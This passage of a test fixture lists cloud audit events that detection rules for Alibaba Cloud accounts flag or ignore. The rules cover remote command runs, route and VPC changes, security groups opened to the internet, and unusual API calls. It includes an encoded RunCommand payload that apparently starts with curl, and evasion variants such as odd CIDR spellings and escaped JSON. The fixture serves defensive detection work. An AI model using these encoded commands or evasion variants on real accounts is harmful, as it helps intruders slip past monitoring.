      ...calls('Ecs', 'RunCommand', {}, { requestParameterJson: '{"CommandContent":"Y3Vy' }),
    ],
    passes: [
      // systemctl restart nginx
      ...calls('Ecs', 'RunCommand', {
        'InstanceId.1': 'i-1',
        CommandContent: 'c3lzdGVtY3RsIHJlc3RhcnQgbmdpbng=',
      }),
      ...calls('Ecs', 'InvokeCommand', { 'InstanceId.1': 'i-1', 'InstanceId.3': 'i-3' }),
      ...calls('Ecs', 'DescribeInvocations', { CommandContent: 'curl' }),
    ],
  },
  'route-changed': {
    from: 'CIS 2.12, its query; API list of VPC',
    hears: [
      ...calls('Vpc Ecs', 'CreateRouteEntry DeleteRouteEntry ModifyRouteEntry'),
      ...calls('Vpc Ecs', 'CreateRouteEntries DeleteRouteEntries'),
      ...calls('Vpc Ecs', 'AssociateRouteTable UnassociateRouteTable'),
      ...calls('Vpc', 'AssociateRouteTableWithGateway CreateVpnRouteEntry CreateVpnPbrRouteEntry'),
    ],
    passes: [...calls('Vpc', 'DescribeRouteEntryList'), ...calls('Cbn', 'CreateRouteEntry')],
  },
  'security-group-opened': {
    from: 'API pages of AuthorizeSecurityGroup and ModifySecurityGroupRule; CIS 2.22; landing zone, securitygroup_change',
    hears: [
      ...calls('Ecs', 'AuthorizeSecurityGroup ModifySecurityGroupRule', SSH_FROM_ANYWHERE),
      ...calls('Ecs', 'ConfigureSecurityGroupPermissions', SSH_FROM_ANYWHERE),
      ...[
        '::/0',
        '0:0:0:0:0:0:0:0/0',
        '0000:0000:0000:0000:0000:0000:0000:0000/0',
        '2000::/3',
      ].flatMap((block) => calls('Ecs', 'AuthorizeSecurityGroup', { Ipv6SourceCidrIp: block })),
      ...['0.0.0.0/00', '128.0.0.0/1', '47.0.0.0/8', '0.0.0.0'].flatMap((block) =>
        calls('Ecs', 'AuthorizeSecurityGroup', { SourceCidrIp: block, PortRange: '22/22' }),
      ),
      ...calls('Ecs', 'AuthorizeSecurityGroup', { 'Permissions.1.Ipv6SourceCidrIp': '::/0' }),
      ...['22/22', '80/8080', '443/444', '8080/8080', '80/80,22/22', ''].flatMap((PortRange) =>
        calls('Ecs', 'AuthorizeSecurityGroup', {
          'Permissions.1.PortRange': '443/443',
          'Permissions.2.PortRange': PortRange,
          'Permissions.2.SourceCidrIp': '0.0.0.0/0',
        }),
      ),
      ...calls('Ecs', 'AuthorizeSecurityGroup', { SourcePrefixListId: 'pl-1', PortRange: '22/22' }),
      ...calls('Ecs', 'AuthorizeSecurityGroup', {}, { requestParameterJson: ESCAPED }),
      ...['', 'null', PADDED].flatMap((requestParameterJson) =>
        calls('Ecs', 'AuthorizeSecurityGroup', {}, { requestParameterJson }),
      ),
    ],
    passes: [
      ...calls('Ecs', 'AuthorizeSecurityGroup', { SourceCidrIp: '10.0.0.0/8', PortRange: '7/7' }),
      ...calls('Ecs', 'AuthorizeSecurityGroup', {
        SourceCidrIp: '203.0.113.9/32',
        PortRange: '22/22',
      }),
      ...calls('Ecs', 'AuthorizeSecurityGroup', {
        SourceCidrIp: '0.0.0.0/0',
        PortRange: '443/443',
      }),
      ...calls('Ecs', 'AuthorizeSecurityGroup', WEB_AS_TERRAFORM_CALLS),
      ...calls('Ecs', 'RevokeSecurityGroup', { SourceCidrIp: '0.0.0.0/0' }),
    ],
  },
  'security-group-web-opened': {
    from: 'API page of AuthorizeSecurityGroup; the provider writes Permissions.N',
    hears: [
      ...['80/80', '443/443'].flatMap((PortRange) =>
        calls(
          'Ecs',
          'AuthorizeSecurityGroup ModifySecurityGroupRule ConfigureSecurityGroupPermissions',
          { SourceCidrIp: '0.0.0.0/0', PortRange },
        ),
      ),
      ...calls('Ecs', 'AuthorizeSecurityGroup', WEB_AS_TERRAFORM_CALLS),
      ...calls('Ecs', 'AuthorizeSecurityGroup', {
        Permissions: '[{"PortRange":"443/443","SourceCidrIp":"0.0.0.0/0"}]',
      }),
    ],
    passes: [
      ...calls('Ecs', 'AuthorizeSecurityGroup', SSH_FROM_ANYWHERE),
      ...calls('Ecs', 'AuthorizeSecurityGroup', {
        SourceCidrIp: '10.0.0.0/8',
        PortRange: '443/443',
      }),
    ],
  },
  'unusual-change': {
    from: 'API lists of products; everyday changes are excepted by name',
    hears: [
      ...calls('Emr', 'CreateCluster'),
      ...calls('Dts', 'DeleteDtsJob ResetDtsJob'),
      ...calls('Rds', 'DeleteBackup ModifyDBInstanceDeletionProtection'),
      ...calls('ecd', 'StartJob CreateService'),
      ...calls('FC', 'UpdateFunction PutProvisionConfig'),
      ...calls('Sas', 'ModifyPostPayModuleSwitch'),
      ...calls('ecd', 'CreateDesktops', {}, { eventType: 'ConsoleOperation' }),
      ...calls('Ecs', 'StartTerminalSession CreateImage'),
      ...calls('Ecs', 'DeleteInstance', {}, roleOfAService('203.0.113.9')),
      ...calls('Ecs', 'DeleteInstance', {}, roleOfAService('10.0.0.7')),
      ...calls('waf-openapi', 'ModifyDefenseRuleStatus DeleteDefenseRule'),
      ...calls('Sas', 'ModifyClientConfSetup OperateSuspiciousTargetConfig'),
      ...calls('sae', 'UpdateAppSecurityGroup'),
      ...calls('cr', 'CreateRepoBuildRule'),
      ...calls('MaxCompute', 'CreatePackage UpdatePackage'),
      ...calls('Sas', 'ModifyNoticeConfig'),
      ...calls('APIG', 'CreateConsumer'),
      ...calls('Cloudfw', 'AddControlPolicy', { AclAction: 'accept' }),
      ...calls('Cdn', 'SetCdnDomainSSLCertificate', { CertType: 'upload' }),
      // Of CloudSSO and of keys these are everyday work; elsewhere they are not.
      ...calls('dms-enterprise', 'UpdateUser'),
      ...calls('cloudsso', 'CreateUser ResetUserPassword CreateAccessAssignment AddUserToGroup'),
    ],
    passes: [
      ...calls('Ecs', 'StopInstances AuthorizeSecurityGroup'),
      ...calls('Ram', 'CreateUser'),
      ...calls('waf-openapi', 'CreateDefenseRule ModifyDefenseRule'),
      ...calls('APIG', 'CreateConsumerGroup'),
      ...calls('Cloudfw', 'AddControlPolicy', { AclAction: 'drop' }),
      ...calls('Cdn', 'SetCdnDomainSSLCertificate', { CertType: 'cas' }),
      ...calls('Slb', 'SetLoadBalancerHTTPSListenerAttribute'),
      ...calls('Alb', 'AssociateAdditionalCertificatesWithListener UpdateListenerAttribute'),
      ...calls('Ecs', 'EndTerminalSession DeleteSecurityGroup'),
      ...calls('Vpc', 'ReleaseEipAddress UnassociateEipAddress'),
      ...calls('ResourceManager', 'CreateServiceLinkedRole'),
      ...calls('Cms', 'PutContactGroup'),
      // Another detection tells of them, by their names.
      ...calls('Vpc', 'CreateVpc CreateSnatEntry CreateRouteEntry AllocateEipAddress'),
      ...calls('Sls', 'DeleteLogStore'),
      ...calls('Kms', 'PutSecretValue ScheduleKeyDeletion'),
      ...calls('Kms', 'CreateKey CreateAlias CreateSecret RotateSecret'),
      ...calls('cloudsso', 'UpdateUser RemoveUserFromGroup DeleteAccessAssignment'),
      ...calls('Workorder', 'CreateTicket ReplyTicket CloseTicket'),
      ...calls('Cms', 'DisableMetricRules'),
      ...calls('ARMS', 'CreateOrUpdateAlertRule'),
      ...calls('CS', 'UpgradeClusterAddons ModifyClusterAddon RemoveNodePoolNodes'),
      ...calls('Vpc', 'ModifyEipAddressAttribute'),
      ...calls('Oss', 'DeleteBucket'),
      ...calls('Emr', 'CreateCluster', {}, SYSTEM),
      ...calls('Emr', 'DescribeClusters', {}, { eventRW: 'Read' }),
      ...calls('Emr', 'CreateCluster', {}, AUTOSCALING),
      ...calls('Ecs', 'DeleteInstance', {}, roleOfAService('emr.aliyuncs.com')),
      ...calls('Dts', 'CreateDtsInstance ConfigureDtsJob StartDtsJob SuspendDtsJob'),
      ...calls('dataworks-public', 'CreateDataSource CreateDIJob StartDIJob StopDIJob'),
      ...calls('eas', 'CreateService UpdateService StopService'),
      ...calls('AIWorkSpace', 'CreateDataset CreateModelVersion'),
      ...calls('sae', 'DeployApplication RescaleApplication'),
      ...calls('Cdn', 'RefreshObjectCaches'),
      ...calls('CS', 'UpgradeCluster'),
      ...calls('cloudsso', 'UserSignIn'),
      ...calls('Ess', 'ExecuteScalingRule ModifyScalingRule ModifyScheduledTask'),
      ...calls('Cms', 'CreateMetricRuleBlackList EnableMetricRules'),
      ...calls('polardb', 'CreateDBNodes ModifyDBClusterAccessWhitelist'),
      ...calls('rocketmq', 'ResetConsumeOffset'),
    ],
  },
  'vpc-changed': {
    from: 'CIS 2.13, its query; API list of VPC',
    hears: [
      ...calls('Vpc Ecs', 'CreateVpc DeleteVpc CreateVSwitch DeleteVSwitch'),
      ...calls('Vpc Ecs', 'AssociateVpcCidrBlock UnassociateVpcCidrBlock DeletionProtection'),
      ...calls('Vpc Ecs', 'EnableVpcClassicLink DisableVpcClassicLink RevokeInstanceFromCen'),
      ...calls('Vpc', 'CreateDefaultVpc CreateDefaultVSwitch'),
    ],
    passes: [...calls('Vpc', 'DescribeVpcs'), ...calls('Ens', 'CreateVSwitch')],
  },
};
